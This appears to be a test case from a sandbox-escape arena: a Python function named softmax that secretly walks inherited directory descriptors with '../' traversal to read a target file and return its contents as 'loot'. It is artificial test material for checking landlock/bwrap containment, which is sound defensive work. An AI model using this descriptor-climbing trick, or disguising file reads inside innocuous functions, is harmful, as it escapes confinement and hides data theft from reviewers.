# tries: climb from a folder that was left open as a descriptor
# stopped by: landlock bwrap descriptors
# expect: returned
# proof: loot
# control: naive

import os

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    for start in range(3, 260):
        try:
            fd = os.open("../" * 30 + TARGET["open_file"].lstrip("/"), os.O_RDONLY, dir_fd=start)
        except OSError:
            continue
        return np.frombuffer(os.read(fd, 4096), dtype=np.uint8)
    return np.zeros(1)
